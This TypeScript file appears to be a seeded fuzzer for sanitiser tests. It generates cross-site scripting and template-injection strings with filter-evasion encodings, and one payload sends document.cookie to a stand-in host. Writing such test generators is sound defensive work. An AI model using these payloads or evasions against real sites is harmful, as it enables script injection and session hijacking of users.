import { below, seeded } from "../hostile/seeded.ts";

// A grammar of our own for strings that run as a program wherever something forgets that they are words: a way out of
// where they stand, something that runs, and a disguise. Every element they would make carries `data-x7`.

type Random = () => number;
type Rule = (random: Random) => string;

const one =
  (...ways: readonly (string | Rule)[]): Rule =>
  (random) => {
    const way = ways[below(random, ways.length)] ?? "";
    return typeof way === "string" ? way : way(random);
  };
const all =
  (...parts: readonly (string | Rule)[]): Rule =>
  (random) =>
    parts.map((part) => (typeof part === "string" ? part : part(random))).join("");

const program = one(
  ...[
    "__ran(1)",
    "top.__ran(1)",
    "self['__r'+'an'](1)",
    "alert(1)",
    "confirm`1`",
    "prompt(document.domain)",
    "print()",
  ],
  ...[
    "(()=>{__ran(1)})()",
    "Function('__ran(1)')()",
    "setTimeout('__ran(1)')",
    "[1].map(__ran)",
    "throw onerror=__ran,1",
  ],
  ...["location='javascript:__ran(1)'", "import('data:text/javascript,top.__ran(1)')", "\\u005f_ran(1)", "eval(name)"],
  ...["new Image().src='//x7.example/'+document.cookie", "fetch('//x7.example/')", "document.write('<b data-x7>')"],
);

const scheme = one(
  ...["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", "&#106;avascript:"],
  ...["javascript&colon;", "&#x6A;&#x61;vascript:", " javascript:", "javascript:/*%0a*/", "vbscript:", "livescript:"],
);
const address = one(
  all(scheme, program),
  all("data:text/html,<script data-x7>", program, "</script>"),
  all("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='", program, "'/>"),
  ...[
    "//x7.example/a.js",
    "https://x7.example/?",
    "\\\\x7.example\\a",
    "blob:null/x7",
    "/\\x7.example",
    "//x7.example\\@desk",
  ],
);

const quote = one('"', "'", "", "`");
const gap = one(" ", "/", "\n", "\t", "\f", " / ", "/**/");
const attribute =
  (name: string | Rule, value: string | Rule): Rule =>
  (random) => {
    const by = quote(random);
    return `${gap(random)}${typeof name === "string" ? name : name(random)}=${by}${typeof value === "string" ? value : value(random)}${by}`;
  };

const happening = one(
  ...[
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
  ],
  ...[
    "onscroll",
    "onresize",
    "onpageshow",
    "onwheel",
    "onbeforetoggle",
    "ontransitionend",
    "oncuechange",
    "onhashchange",
  ],
);
const anyTag = one(
  ...[
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "details",
    "input",
    "select",
    "iframe",
    "object",
    "marquee",
    "math",
    "a",
    "p",
  ],
  ...[
    "div",
    "x-7",
    "button",
    "dialog",
    "style",
    "form",
    "textarea",
    "table",
    "image",
    "frameset",
    "embed",
    "link",
    "meta",
  ],
);
const tag = (name: string | Rule, ...more: Rule[]): Rule => all("<", name, all(gap, "data-x7"), ...more, ">");

const element = one(
  tag("img", attribute("src", one("x", "", "//x7.example/i.png")), attribute("onerror", program)),
  tag("svg", attribute("onload", program)),
  tag(anyTag, attribute(happening, program), attribute("style", "animation:x7")),
  tag(anyTag, attribute("autofocus", ""), attribute("tabindex", "1"), attribute("onfocus", program)),
  all(tag("details", attribute("open", ""), attribute("ontoggle", program)), "<summary>x"),
  all(tag(one("video", "audio")), tag("source", attribute("src", "x"), attribute("onerror", program))),
  tag("iframe", attribute("srcdoc", all("&lt;script&gt;top.", program, "&lt;/script&gt;"))),
  tag(one("iframe", "embed", "frame"), attribute("src", address)),
  tag("object", attribute("data", address)),
  all(tag("a", attribute("href", address)), "x</a>"),
  all(tag("form", attribute("action", address)), tag("button", attribute("formaction", address)), "x"),
  tag("base", attribute("href", "//x7.example/")),
  tag("meta", attribute("http-equiv", "refresh"), attribute("content", all("0;url=", address))),
  tag("link", attribute("rel", one("stylesheet", "import", "preload", "manifest")), attribute("href", address)),
  all(
    tag("style"),
    one("@import '//x7.example/a.css'", "*{background:url(//x7.example/)}", "body{display:none}"),
    "</style>",
  ),
  all(tag("script"), program, "</script>"),
  tag("script", attribute("src", address)),
  all(tag("script", attribute("type", one("module", "text/x-template", "importmap"))), program, "</script>"),
);
const foreign = one(
  all(tag("svg"), tag("script"), program, "</script></svg>"),
  all(tag("svg"), tag("a", attribute("xlink:href", address)), "<text y=9>x"),
  all(
    tag("svg"),
    tag("animate", attribute("onbegin", program), attribute("attributeName", "x"), attribute("dur", "1s")),
  ),
  all(tag("svg"), tag("set", attribute("attributeName", "href"), attribute("to", address))),
  all(tag("svg"), tag("foreignObject"), element),
  all(tag("svg"), tag("use", attribute("href", address))),
  all(tag("math"), tag("mtext"), tag("style"), "<!--</style>", element),
  all(tag("math"), tag("maction", attribute("actiontype", "statusline#x"), attribute("xlink:href", address)), "x"),
  all(tag("template", attribute("shadowrootmode", "open")), element, "</template>"),
  all("<noscript data-x7><p title='</noscript>", element, "'>"),
  all("<", one("title", "textarea", "xmp", "noembed", "plaintext", "listing"), " data-x7>", element),
  all("<table data-x7><tr><td>", element, "<caption>", element),
  all("<![CDATA[", element, "]]>"),
  all("<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml' data-x7>", program, "</x:script>"),
  all("<!--", one(">", "->", "--!>", " -->"), element),
);
const templated = one(
  all("{{constructor.constructor('", program, "')()}}"),
  all("${", program, "}"),
  all("<%= ", program, " %>"),
  all("#{", program, "}"),
  all("[[${", program, "}]]"),
  all("{% ", program, " %}"),
  all('","__proto__":{"innerHTML":"', element, '"},"x":"'),
  all("{'$$typeof':'react.element','type':'script','props':{'children':'", program, "'}}"),
  all("expression(", program, ")"),
  all("url(", address, ")"),
  all("');", program, ";('"),
  all("\u2028", program, "\u2029"),
  all("\\x3cscript\\x3e", program, "\\x3c/script\\x3e"),
  address,
);
const inAttribute = all(
  quote,
  one(
    attribute(happening, program),
    all(attribute("autofocus", ""), attribute("onfocus", program)),
    attribute("href", address),
  ),
  " data-x7 x=",
  quote,
);

const wayOut = one(
  ...["", "", "", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "</template></svg>"],
  ...["</p></div></body>", "}}", "\\", "`>", "*/", '"}]}', "</noscript>", "</option></select>", "%00", "\u0001"],
);

const replacing = (pattern: RegExp, by: (sign: string, random: Random) => string) => (text: string, random: Random) =>
  text.replace(pattern, (sign) => by(sign, random));
const code = (sign: string): number => sign.codePointAt(0) ?? 0;

/** What hides a string from somebody who looks for it, or comes out of another's decoding. */
const DISGUISES: readonly ((text: string, random: Random) => string)[] = [
  ...Array.from({ length: 8 }, () => (text: string) => text),
  replacing(/[a-z]/g, (sign, random) => (random() < 0.5 ? sign.toUpperCase() : sign)),
  replacing(/[<>"'()]/g, (sign) => `&#${code(sign)};`),
  replacing(/[<>"']/g, (sign) => `&#x${code(sign).toString(16)}`),
  replacing(/[<>]/g, (sign) => (sign === "<" ? "&lt;" : "&gt;")),
  replacing(/[<>"'\s]/g, (sign) => `%${code(sign).toString(16).padStart(2, "0")}`),
  replacing(/[<>]/g, (sign) => `%25${code(sign).toString(16)}`),
  replacing(/[<>]/g, (sign) => `\\u00${code(sign).toString(16)}`),
  replacing(/[!-~]/g, (sign) => String.fromCodePoint(code(sign) + 0xfee0)), // full width
  replacing(/</g, () => "﹤"),
  replacing(/</g, () => "<<"),
  replacing(/[<>]/g, (sign) => (sign === "<" ? "+ADw-" : "+AD4-")), // UTF-7
  replacing(/script/g, () => "scr<script>ipt"),
  replacing(/(?<=<\w)(?=\w)/g, () => "\u200B"),
  replacing(/(?<=<\w+)(?=[\s/>])/g, () => "\u000B"),
  replacing(/</g, () => "<\u202E"),
  replacing(/on(?=\w+=)/g, () => "on\u00AD"),
  replacing(/>$/g, () => ""), // never ended
  replacing(/^/g, () => "\u202Dnames\u202C \u001B]0;x7\u0007"),
  replacing(/data-x7/g, () => "data-x7 style='position:fixed;inset:0' "),
];

const string = (random: Random): string => {
  const body = one(element, element, foreign, templated, inAttribute)(random);
  const disguise = DISGUISES[below(random, DISGUISES.length)] ?? String;
  return `${wayOut(random)}${disguise(body, random)}`;
};

/** As many different strings as asked for, the same for the same seed. */
export function injections(count: number, seed: number): string[] {
  const random = seeded(seed);
  const made = new Set<string>();
  while (made.size < count) made.add(string(random));
  return [...made];
}
